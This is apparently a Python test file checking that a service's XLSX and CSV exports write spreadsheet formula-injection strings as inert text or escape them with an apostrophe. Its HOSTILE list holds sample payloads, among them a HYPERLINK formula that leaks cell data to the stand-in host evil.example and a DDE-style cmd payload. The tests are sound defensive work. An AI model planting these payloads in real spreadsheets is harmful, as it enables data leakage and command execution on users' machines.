"""Formula injection: text that a spreadsheet would evaluate comes back from every XLSX and CSV we write as text."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

from openpyxl import load_workbook

from runtime.clock import SettableClock
from runtime.spreadsheets import FORMULA_PREFIXES, csv_text
from services.issues import ledger
from tests.issues.helpers import ledger_rows, load_orgs_and_round
from tests.notify.helpers import ISSUES, SCORING, org, registered, sh
from tests.notify.test_bulletins import ranking
from tests.support import running

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def no_formula(content: bytes) -> list[object]:
    """Every cell of every sheet, after checking that none is a formula; returns the values."""
    wb = load_workbook(io.BytesIO(content))
    values: list[object] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


async def test_the_ledger_export_writes_hostile_titles_as_text(tmp_path: Path) -> None:
    hostile = HOSTILE[:5]  # a bare CR inside a CSV cell is a line break to the importer, so not imported here
    rows = ledger_rows()[:len(hostile)]
    for row, text in zip(rows, hostile, strict=True):
        row["title"] = text
    buf = io.StringIO(newline="")
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    async with running("issues", tmp_path) as s:
        await load_orgs_and_round(s)
        admin = s.auth(roles="admin")
        r = await s.client.post("/v1/issues/import", headers=admin, content=buf.getvalue().encode())
        assert r.status_code == 201, r.text
        r = await s.client.get("/v1/issues/export", headers=admin)
        assert r.status_code == 200
        values = no_formula(r.content)
    for text in hostile:
        assert text.strip() in {str(v).strip() for v in values}


async def test_the_monthly_bulletin_writes_hostile_org_names_and_titles_as_text(tmp_path: Path) -> None:
    clock = SettableClock(sh("2020-07-05T10:00"))
    async with running("notify", tmp_path, clock=clock) as s:
        await s.deliver(org("city-eeb", HOSTILE[0]))
        late = str(uuid.uuid4())
        await s.deliver(registered(late, deadline="2020-06-30", code="-HH-2020-007", leader=HOSTILE[3]))
        await s.deliver(ISSUES.make("issue.progress_reported", late, {
            "issue_id": late, "responsible_org_id": "city-eeb", "note": "=1+1", "percent": 40}))
        body = ranking("rk-1")
        body["rows"][0]["org_name"] = HOSTILE[1]  # type: ignore[index]
        assert await s.deliver(SCORING.make("ranking.published", "rk-1", body)) == "handled"
        who = s.auth(org="city-water", roles="responsible")
        [b] = (await s.client.get("/v1/bulletins", headers=who)).json()["items"]
        r = await s.client.get(b["xlsx_url"], headers=who)
        assert r.status_code == 200
        values = no_formula(r.content)
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[3], "-HH-2020-007"} <= set(values)


def test_the_ledger_csv_prefixes_hostile_text_with_an_apostrophe() -> None:
    row = {**ledger_rows()[0], "title": HOSTILE[0], "measures": "-减少散煤"}
    text = ledger.to_csv([row]).decode()
    [parsed] = list(csv.DictReader(io.StringIO(text)))
    assert parsed["title"] == "'" + HOSTILE[0] and parsed["measures"] == "'-减少散煤"
    assert parsed["code"] == row["code"]
    for prefix in FORMULA_PREFIXES:
        assert csv_text(prefix + "x") == "'" + prefix + "x"
    assert csv_text("普通文本") == "普通文本" and csv_text(3) == 3
